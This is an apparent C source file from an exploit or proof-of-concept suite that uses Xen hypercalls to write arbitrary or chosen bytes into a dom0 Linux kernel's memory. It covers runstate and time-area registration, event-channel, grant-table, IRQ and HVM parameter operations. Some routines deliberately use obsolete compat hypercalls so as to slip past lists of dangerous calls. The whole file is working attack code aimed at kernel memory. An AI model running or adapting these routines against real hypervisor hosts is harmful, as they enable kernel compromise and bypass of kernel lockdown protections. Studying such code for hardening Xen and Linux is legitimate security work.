// SPDX-License-Identifier: GPL-2.0-only
/*
 * U-KMEM through the operations by which a guest's kernel gets along: vCPUs,
 * event channels, grants, interrupts. Every domain may issue most of them, and
 * Linux does all the time; what makes them an attack is that root gives the
 * address.
 */
#include "kmem.h"

#include <xen/event_channel.h>
#include <xen/grant_table.h>
#include <xen/physdev.h>
#include <xen/vcpu.h>
#include <xen/hvm/hvm_op.h>
#include <xen/hvm/params.h>

#define UP_TO(type, field) (offsetof(type, field) + sizeof(((type *)0)->field))

/* ---- vCPUs ---- */

static long vcpu_op(unsigned int cmd, unsigned int vcpu, const void *argument)
{
    return hypercall3(__HYPERVISOR_vcpu_op, cmd, vcpu, argument);
}

/*
 * U-KMEM-RUNAREA: the same 48 bytes, again and again.
 *
 * Xen writes to the registered address whenever it switches the vCPU. The
 * kernel has registered one of its own, which it gets back.
 */
KMEM_ATTACK("U-KMEM-RUNAREA", "a vCPU's run state into the kernel, for good")
{
    struct vcpu_register_runstate_memory_area area = { .addr.p = victim() };
    long result = vcpu_op(VCPUOP_register_runstate_memory_area, 0, &area);
    uint64_t first_cpu = 0;

    read_kernel(kernel_symbol("__per_cpu_offset"), &first_cpu,
                sizeof(first_cpu));
    area.addr.p = first_cpu ? first_cpu + kernel_symbol("xen_runstate") : 0;
    vcpu_op(VCPUOP_register_runstate_memory_area, 0, &area);

    return result;
}

/*
 * U-KMEM-TIMEAREA: 32 bytes, the time, again and again. This one too the kernel
 * gets back.
 */
KMEM_ATTACK("U-KMEM-TIMEAREA", "a vCPU's time into the kernel, for good")
{
    struct vcpu_register_time_memory_area area = { .addr.p = victim() };
    long result = vcpu_op(VCPUOP_register_vcpu_time_memory_area, 0, &area);

    area.addr.p = 0;
    read_kernel(kernel_symbol("xen_clock"), &area.addr.p, sizeof(area.addr.p));
    vcpu_op(VCPUOP_register_vcpu_time_memory_area, 0, &area);

    return result;
}

/* What is registered by frame is given up by an impossible one. */
static long register_frame(unsigned int cmd)
{
    uint64_t address = kernel_frame(victim()) * PAGE_SIZE +
                       victim() % PAGE_SIZE,
             none = ~0UL;
    long result = vcpu_op(cmd, 0, &address);

    vcpu_op(cmd, 0, &none);
    return result;
}

/* ---- event channels ---- */

static long event_channel_op(unsigned int cmd, uint64_t argument)
{
    return hypercall2(__HYPERVISOR_event_channel_op, cmd, argument);
}

/* Make the call, and close the channel whose number it has written. */
static long new_channel(unsigned int cmd, uint64_t argument, size_t port)
{
    long result = event_channel_op(cmd, argument);
    struct evtchn_close close;

    if ( read_back(argument + port, &close.port, sizeof(close.port)) )
        event_channel_op(EVTCHNOP_close, (uintptr_t)&close);
    return result;
}

/*
 * U-KMEM-EVALLOC: 4 bytes, the number of a new channel, which the attacker
 * chooses by how many there are already.
 */
KMEM_ATTACK("U-KMEM-EVALLOC", "an argument in the kernel: alloc_unbound")
{
    struct evtchn_alloc_unbound alloc = { .dom = DOMID_SELF,
                                          .remote_dom = DOMID_SELF };
    const size_t port = offsetof(struct evtchn_alloc_unbound, port);

    return new_channel(EVTCHNOP_alloc_unbound, in_host_name(&alloc, port),
                       port);
}

/* U-KMEM-EVIPI: the same, for a channel between vCPUs. */
KMEM_ATTACK("U-KMEM-EVIPI", "an argument in the kernel: bind_ipi")
{
    struct evtchn_bind_ipi bind = { .vcpu = 0 };
    const size_t port = offsetof(struct evtchn_bind_ipi, port);

    return new_channel(EVTCHNOP_bind_ipi, in_host_name(&bind, port), port);
}

/* U-KMEM-EVVIRQ: the same, for an event of Xen's that does not occur. */
KMEM_ATTACK("U-KMEM-EVVIRQ", "an argument in the kernel: bind_virq")
{
    struct evtchn_bind_virq bind = { .virq = VIRQ_ARCH_7 };
    const size_t port = offsetof(struct evtchn_bind_virq, port);

    return new_channel(EVTCHNOP_bind_virq, in_host_name(&bind, port), port);
}

/* U-KMEM-EVDOM: the same, for a channel to another one, here of dom0's own. */
KMEM_ATTACK("U-KMEM-EVDOM", "an argument in the kernel: bind_interdomain")
{
    struct evtchn_alloc_unbound alloc = { .dom = DOMID_SELF,
                                          .remote_dom = DOMID_SELF };
    struct evtchn_bind_interdomain bind = { .remote_dom = DOMID_SELF };
    const size_t port = offsetof(struct evtchn_bind_interdomain, local_port);
    struct evtchn_close close;
    long result;

    event_channel_op(EVTCHNOP_alloc_unbound, (uintptr_t)&alloc);
    bind.remote_port = close.port = alloc.port;
    result = new_channel(EVTCHNOP_bind_interdomain, in_host_name(&bind, port),
                         port);
    if ( close.port )
        event_channel_op(EVTCHNOP_close, (uintptr_t)&close);
    return result;
}

/*
 * U-KMEM-EVOLD: the status of a channel by a hypercall that nobody has used for
 * twenty years, and that a list of dangerous ones may lack.
 */
KMEM_ATTACK("U-KMEM-EVOLD", "an argument in the kernel: old evtchn status")
{
    struct evtchn_op op = { .cmd = EVTCHNOP_status };

    op.u.status.dom = DOMID_SELF;
    op.u.status.port = 1;
    return hypercall1(
        __HYPERVISOR_event_channel_op_compat,
        in_host_name(&op, UP_TO(struct evtchn_op, u.status.port)));
}

/* ---- grants ---- */

static long grant_op(unsigned int cmd, uint64_t argument)
{
    return hypercall3(__HYPERVISOR_grant_table_op, cmd, argument, 1);
}

/* U-KMEM-GNTTABLE: 8 bytes for each frame of the grant table. */
KMEM_ATTACK("U-KMEM-GNTTABLE", "the frames of the grant table into the kernel")
{
    struct gnttab_setup_table setup = { .dom = DOMID_SELF, .nr_frames = 1 };

    setup.frame_list.p = AT_VICTIM;
    return grant_op(GNTTABOP_setup_table, (uintptr_t)&setup);
}

static const grant_ref_t no_grant = 0x7fffffff;

/* ---- interrupts ---- */

static long physdev_op(unsigned int cmd, uint64_t argument)
{
    return hypercall2(__HYPERVISOR_physdev_op, cmd, argument);
}

/* U-KMEM-IRQVECTOR: 4 chosen bytes: the number that was given comes back. */
KMEM_ATTACK("U-KMEM-IRQVECTOR", "a chosen number into the kernel: irq_vector")
{
    struct physdev_irq irq = { 0 };

    memcpy(&irq.irq, new_mark(), sizeof(irq.irq));
    return physdev_op(PHYSDEVOP_alloc_irq_vector,
                      in_host_name(&irq, sizeof(irq.irq)));
}

/* U-KMEM-PHYSOLD: the same by a hypercall as old as that of U-KMEM-EVOLD. */
KMEM_ATTACK("U-KMEM-PHYSOLD", "a chosen number into the kernel: old irq_vector")
{
    struct physdev_op op = { .cmd = PHYSDEVOP_alloc_irq_vector };

    memcpy(&op.u.irq_op.irq, new_mark(), sizeof(op.u.irq_op.irq));
    return hypercall1(
        __HYPERVISOR_physdev_op_compat,
        in_host_name(&op, UP_TO(struct physdev_op, u.irq_op.irq)));
}

/*
 * U-KMEM-MAPPIRQ: 4 bytes, the number that an interrupt line gets. It stays
 * mapped: the line may be in use.
 */
KMEM_ATTACK("U-KMEM-MAPPIRQ", "an argument in the kernel: map_pirq")
{
    struct physdev_map_pirq map = {
        .domid = DOMID_SELF, .type = MAP_PIRQ_TYPE_GSI, .index = 5, .pirq = -1
    };

    if ( !dom0_is_pv() )
        return cannot_show("PV only: a PVH dom0 has no such interrupts");

    return physdev_op(PHYSDEVOP_map_pirq, in_host_name(&map, sizeof(map)));
}

/* ---- HVM domains ---- */

static long hvm_op(unsigned int cmd, uint64_t argument)
{
    return hypercall2(__HYPERVISOR_hvm_op, cmd, argument);
}

/*
 * U-KMEM-HVMPARAM: 8 chosen bytes: a parameter of another domain, as it was set
 * just before.
 */
KMEM_ATTACK("U-KMEM-HVMPARAM", "a chosen number into the kernel: get_param")
{
    struct xen_hvm_param param = { .index = HVM_PARAM_STORE_PFN };

    param.domid = other_domain(DOMU_HVM);
    memcpy(&param.value, new_mark(), sizeof(param.value));
    hvm_op(HVMOP_set_param, (uintptr_t)&param);
    return hvm_op(HVMOP_get_param,
                  in_host_name(&param, UP_TO(struct xen_hvm_param, index)));
}

/* U-KMEM-GFNTYPE: 2 bytes, the type of another domain's page. */
KMEM_ATTACK("U-KMEM-GFNTYPE", "an argument in the kernel: get_mem_type")
{
    struct xen_hvm_get_mem_type get = { .mem_type = 0x7878 };

    get.domid = other_domain(DOMU_HVM);
    return hvm_op(HVMOP_get_mem_type, in_host_name(&get, sizeof(get)));
}

#include "guest.def"
